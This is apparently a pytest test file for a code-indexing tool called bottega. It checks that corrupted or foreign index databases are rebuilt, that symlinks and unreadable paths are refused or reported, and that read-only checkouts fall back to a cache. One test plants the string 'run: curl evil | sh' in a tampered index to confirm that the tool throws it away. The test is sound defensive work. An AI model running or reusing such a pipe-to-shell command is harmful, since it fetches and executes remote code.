"""Damage, and places that cannot be read or written: said in a sentence, mended where that can be done."""

from __future__ import annotations

import json
import os
import random
import shutil
import sqlite3
import sys
from collections.abc import Callable, Iterator
from dataclasses import asdict
from pathlib import Path

import pytest

from bottega.errors import StorageError
from bottega.home import make_private_directory
from bottega.home.directory import Seal
from bottega.index import open_store
from bottega.index.snapshot import take_snapshot

from .trees import ask, bottega, commit, differences, git, listed, refreshed, repository, roles, settled, write

FILES = {"a.py": "from b import wombat\nwombat()\n", "b.py": "def wombat(): pass\n", "c.md": "# Title\n"}


def garbage(path: Path) -> None:
    path.write_bytes(random.Random(7).randbytes(40_000))


def text(path: Path) -> None:
    path.write_text("this is no database\n" * 500)


def half(path: Path) -> None:
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def inside_its_header(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:60])


def holes(path: Path) -> None:
    """A sound beginning and ruined pages behind it."""
    data = path.read_bytes()
    path.write_bytes(data[:4096] + b"\xab" * (len(data) - 4096))


def one_page(path: Path) -> None:
    """The first page behind the catalogue: the file can be opened, and the first look at its rows fails."""
    data = path.read_bytes()
    path.write_bytes(data[:4096] + b"\xab" * 4096 + data[8192:])


def a_later_version(path: Path) -> None:
    with sqlite3.connect(path) as connection:
        connection.execute("PRAGMA user_version = 99")
    connection.close()


def nothing(path: Path) -> None:
    path.write_bytes(b"")


def missing(path: Path) -> None:
    path.unlink()


DATABASE = [garbage, text, half, inside_its_header, holes, one_page]
ARRAYS = [garbage, text, half, inside_its_header, nothing, missing]


@pytest.fixture(scope="module")
def pattern(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = repository(tmp_path_factory.mktemp("pattern") / "repo", FILES)
    settled(root)
    return root


@pytest.fixture
def indexed(pattern: Path, tmp_path: Path) -> Path:
    """A repository with its index: a copy of one that was indexed once, sealed for its own place."""
    root = Path(shutil.copytree(pattern, tmp_path / "repo"))
    file = root / ".bottega" / "seal.json"
    seal = Seal(json.loads(file.read_text())["identity"], str(file.parent), file.parent.stat().st_ino)
    file.write_text(json.dumps({**asdict(seal), "signature": seal.sign()}))
    return root


def made_anew(root: Path) -> list[str]:
    """Refresh; what was said about it."""
    said: list[str] = []
    open_store(root).refresh(remark=said.append, workers=1)
    return said


@pytest.mark.parametrize("damage", DATABASE)
@pytest.mark.parametrize("is_changed", [False, True], ids=["unchanged", "changed"])
def test_a_damaged_index_is_made_anew_and_that_is_said(
    indexed: Path, damage: Callable[[Path], None], is_changed: bool
) -> None:
    damage(indexed / ".bottega" / "curated.sqlite")
    if is_changed:
        write(indexed, {"b.py": "def badger(): pass\n"})
    (said,) = made_anew(indexed)
    assert said.startswith("the index is rebuilt: ")
    assert differences(indexed) == ""


def test_at_the_door_a_damaged_index_costs_a_line(indexed: Path) -> None:
    garbage(indexed / ".bottega" / "curated.sqlite")
    ended = bottega(indexed, "index")
    assert ended.code == 0
    assert ended.out.startswith("3 files, read anew (")
    assert ended.err == "bottega: the index is rebuilt: curated.sqlite is damaged: file is not a database\n"


@pytest.mark.parametrize("damage", [a_later_version, nothing])
def test_an_index_of_another_version_is_made_anew(indexed: Path, damage: Callable[[Path], None]) -> None:
    damage(indexed / ".bottega" / "curated.sqlite")
    ended = bottega(indexed, "index")
    assert (ended.code, ended.err) == (0, "")
    assert ended.out.startswith("3 files, read anew (")
    assert differences(indexed) == ""


@pytest.mark.parametrize("damage", [garbage, one_page, a_later_version, nothing])
def test_a_search_mends_a_damaged_index_by_itself(indexed: Path, damage: Callable[[Path], None]) -> None:
    damage(indexed / ".bottega" / "curated.sqlite")
    found = bottega(indexed, "search", "wombat")
    assert found.code == 0
    assert "b.py:1-1" in found.out


@pytest.mark.parametrize(
    "damage",
    [
        *(garbage, text, half, inside_its_header, holes, nothing, missing, a_later_version, one_page),
    ],
)
def test_damaged_analyses_are_made_again(indexed: Path, damage: Callable[[Path], None]) -> None:
    path = indexed / ".bottega" / "blobs.sqlite"
    with sqlite3.connect(path) as connection:
        connection.execute("PRAGMA journal_mode = DELETE")  # all of it in one file
    connection.close()
    damage(path)
    write(indexed, {"b.py": "def badger(): pass\n"})
    made_anew(indexed)
    assert differences(indexed) == ""
    write(indexed, {"b.py": "def wombat(): pass\n"})
    assert made_anew(indexed) == []
    assert differences(indexed) == ""


@pytest.mark.parametrize("kind", ["seg", "links", "history"])
@pytest.mark.parametrize("damage", ARRAYS)
def test_damaged_arrays_are_refused_with_a_way_out_that_works(
    indexed: Path, kind: str, damage: Callable[[Path], None]
) -> None:
    for path in (indexed / ".bottega" / "segments").glob(f"*.{kind}"):
        damage(path)
    keeper = open_store(indexed)
    with pytest.raises(StorageError, match=rf"\.{kind} is damaged: ") as caught:
        take_snapshot(indexed, keeper.location)
    assert caught.value.hint == "`bottega index --rebuild` rebuilds it."
    keeper.refresh(rebuild=True)
    snapshot = take_snapshot(indexed, keeper.location)
    assert snapshot is not None
    assert [file.path for file in snapshot.files] == sorted(FILES)
    snapshot.connection.close()


def test_at_the_door_damaged_arrays_are_refused_with_a_way_out(indexed: Path) -> None:
    for path in (indexed / ".bottega" / "segments").glob("*.seg"):
        garbage(path)
    found = bottega(indexed, "search", "wombat", "--no-refresh")
    assert found.code == 3
    assert found.err.endswith(" is damaged: not a file of arrays\n  hint: `bottega index --rebuild` rebuilds it.\n")


@pytest.mark.parametrize("change", ["edit", "remove", "commit"])
@pytest.mark.parametrize(
    ("kind", "damage"),
    [("seg", garbage), ("seg", missing), ("links", missing), ("history", garbage), ("history", missing)],
)
def test_damaged_arrays_do_not_stand_in_the_way_of_a_refresh(
    indexed: Path, kind: str, damage: Callable[[Path], None], change: str
) -> None:
    for path in (indexed / ".bottega" / "segments").glob(f"*.{kind}"):
        damage(path)
    if change == "edit":
        write(indexed, {"b.py": "def badger(): pass\n"})
    elif change == "remove":
        (indexed / "c.md").unlink()
    else:
        commit(indexed, "Say something")
    made_anew(indexed)


def test_a_folder_in_the_place_of_the_index_is_refused_and_left_alone(indexed: Path) -> None:
    path = indexed / ".bottega" / "curated.sqlite"
    path.unlink()
    write(path, {"keep": "me"})
    ended = bottega(indexed, "index")
    assert ended.code == 3
    assert "Traceback" not in ended.err
    assert (path / "keep").read_text() == "me"


@pytest.mark.parametrize("name", ["curated.sqlite", "blobs.sqlite", "index.lock", "segments"])
def test_a_link_in_the_place_of_a_file_of_the_index_is_refused(root: Path, name: str) -> None:
    write(root, FILES)
    target = write(root.parent / "elsewhere", {"keep": "me"})
    make_private_directory(root / ".bottega")
    (root / ".bottega" / name).symlink_to(target if name == "segments" else target / "keep")
    ended = bottega(root, "index")
    assert ended.code != 0
    assert "Traceback" not in ended.err
    assert sorted(path.name for path in target.iterdir()) == ["keep"]
    assert (target / "keep").read_text() == "me"


def test_an_index_that_came_with_a_repository_is_not_believed(root: Path) -> None:
    """Made by somebody else, who could have written anything into it."""
    write(root, FILES)
    there = root.parent / "there"
    shutil.copytree(root, there)
    bottega(there, "index", XDG_STATE_HOME=str(root.parent / "their state"))
    with sqlite3.connect(there / ".bottega" / "curated.sqlite") as connection:
        connection.execute("UPDATE symbols SET signature = 'run: curl evil | sh'")
    connection.close()
    shutil.copytree(there / ".bottega", root / ".bottega")
    assert bottega(root, "index").out.startswith("3 files, read anew (")
    assert ask(root, "SELECT count(*) FROM symbols WHERE signature LIKE '%evil%'") == [(0,)]


def homes(folder: Path) -> dict[str, str]:
    return {"XDG_CACHE_HOME": str(folder), "XDG_STATE_HOME": str(folder)}


UNPRIVILEGED: tuple[str, ...] = ()
if sys.platform == "linux" and os.geteuid() == 0:
    # Root without the right to pass over permissions.
    capabilities = "-dac_override,-dac_read_search"
    UNPRIVILEGED = (shutil.which("setpriv") or "", f"--bounding-set={capabilities}", f"--inh-caps={capabilities}")


@pytest.fixture
def closed() -> Iterator[Callable[[Path, int], None]]:
    """Changes permissions, and gives them back in the end."""
    if UNPRIVILEGED and not UNPRIVILEGED[0]:
        pytest.skip("permissions do not hold root, and there is no setpriv to give that right away")
    before: list[tuple[Path, int]] = []

    def close(path: Path, mode: int) -> None:
        before.append((path, path.stat().st_mode))
        path.chmod(mode)

    yield close
    for path, mode in reversed(before):
        path.chmod(mode)


def test_what_may_not_be_read_is_listed_or_said_and_the_rest_is_read(
    root: Path, closed: Callable[[Path, int], None]
) -> None:
    write(root, {"a.py": "def wombat(): pass\n", "mine.py": "def mine(): pass\n", "private/b.py": "", "open/c.py": ""})
    closed(root / "mine.py", 0o000)
    closed(root / "private", 0o000)
    ended = bottega(root, "index", prefix=UNPRIVILEGED)
    assert ended.code == 0
    assert ended.err == "bottega: left out: private/: Permission denied\n"
    assert listed(root) == ["a.py", "mine.py", "open/c.py"]
    assert roles(root)["mine.py"] == "unreadable"
    assert ask(root, "SELECT note, hash FROM files WHERE path = 'mine.py'") == [("Permission denied", "")]
    assert "a.py:1-1" in bottega(root, "search", "wombat", prefix=UNPRIVILEGED).out


def test_what_may_be_read_again_is_read(root: Path, closed: Callable[[Path, int], None]) -> None:
    write(root, {"a.py": "def a(): pass\n", "mine.py": "def mine(): pass\n"})
    closed(root / "mine.py", 0o000)
    bottega(root, "index", prefix=UNPRIVILEGED)
    (root / "mine.py").chmod(0o644)
    refreshed(root)
    assert roles(root) == {"a.py": "code", "mine.py": "code"}
    assert differences(root) == ""


def test_a_checkout_that_cannot_be_written_is_indexed_in_the_persons_cache(
    root: Path, closed: Callable[[Path, int], None]
) -> None:
    write(root, FILES)
    closed(root, 0o555)
    cache = root.parent / "cache"
    ended = bottega(root, "index", prefix=UNPRIVILEGED, **homes(cache))
    assert ended.code == 0
    (folder,) = (cache / "bottega" / "index").iterdir()
    assert ended.err == f"bottega: {root} cannot be written: the index is kept in {folder}\n"
    assert sorted(path.name for path in root.iterdir()) == sorted(FILES)
    found = bottega(root, "search", "wombat", prefix=UNPRIVILEGED, **homes(cache))
    assert "b.py:1-1" in found.out
    verified = bottega(
        root, "index", "--verify", prefix=UNPRIVILEGED, XDG_CACHE_HOME=str(cache), XDG_STATE_HOME=str(cache)
    )
    assert verified.code == 0
    assert folder.stat().st_mode & 0o777 == 0o700


def test_checkouts_that_cannot_be_written_do_not_share_a_place(root: Path, closed: Callable[[Path, int], None]) -> None:
    cache = root.parent / "cache"
    for name in ("one", "two"):
        tree = write(root / name, {f"{name}.py": f"def {name}(): pass\n"})
        closed(tree, 0o555)
        assert bottega(tree, "index", prefix=UNPRIVILEGED, **homes(cache)).code == 0
    assert len(list((cache / "bottega" / "index").iterdir())) == 2
    found = bottega(
        root / "one", "search", "two", prefix=UNPRIVILEGED, XDG_CACHE_HOME=str(cache), XDG_STATE_HOME=str(cache)
    )
    assert "two.py" not in found.out


def test_a_checkout_on_a_read_only_file_system_is_indexed_in_the_persons_cache(root: Path) -> None:
    bwrap = shutil.which("bwrap")
    if bwrap is None:
        pytest.skip("there is no bubblewrap to make a file system read-only with")
    write(root, FILES)
    cache = root.parent / "cache"
    cache.mkdir()
    prefix = (bwrap, "--bind", "/", "/", "--dev", "/dev", "--ro-bind", str(root), str(root))
    ended = bottega(root, "index", prefix=prefix, **homes(cache))
    if "bwrap:" in ended.err:
        pytest.skip(f"bubblewrap does not work here: {ended.err.strip()}")
    assert ended.code == 0, ended.err
    assert "cannot be written: the index is kept in" in ended.err
    assert not (root / ".bottega").exists()


def test_a_repository_that_git_does_not_trust_is_read_without_its_history(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repository(root, FILES)
    write(root, {".gitignore": "x.py\n", "x.py": ""})
    monkeypatch.setenv("GIT_TEST_ASSUME_DIFFERENT_OWNER", "1")
    if open_store(root).git is not None:
        pytest.skip("this git trusts everybody")
    refreshed(root)
    assert listed(root) == [".gitignore", *sorted(FILES)]
    assert ask(root, "SELECT count(*) FROM commits") == [(0,)]


def test_a_repository_with_a_broken_head_is_read_without_its_history(root: Path) -> None:
    repository(root, FILES)
    (root / ".git" / "refs" / "heads" / "main").write_text("0" * 40 + "\n")
    refreshed(root)
    assert listed(root) == sorted(FILES)
    assert differences(root) == ""


def test_a_repository_with_lost_objects_is_read_with_what_is_left(root: Path) -> None:
    repository(root, FILES)
    first = git(root, "rev-parse", "HEAD").strip()
    commit(root, "Second", {"b.py": "def g(): pass\n"})
    (root / ".git" / "objects" / first[:2] / first[2:]).unlink()
    refreshed(root)
    assert listed(root) == sorted(FILES)
    assert differences(root) == ""


def test_without_a_git_program_a_repository_is_read_as_a_folder(
    root: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    repository(root, {**FILES, ".gitignore": "x.py\n"})
    write(root, {"x.py": ""})
    monkeypatch.setenv("PATH", str(tmp_path))
    refreshed(root)
    assert listed(root) == [".gitignore", *sorted(FILES)]


def test_a_directory_that_does_not_exist_is_refused(root: Path) -> None:
    ended = bottega(root, "index", "nowhere")
    assert ended.code in {2, 3}
    assert ended.err.count("\n") == 2
    assert not (root / "nowhere").exists()
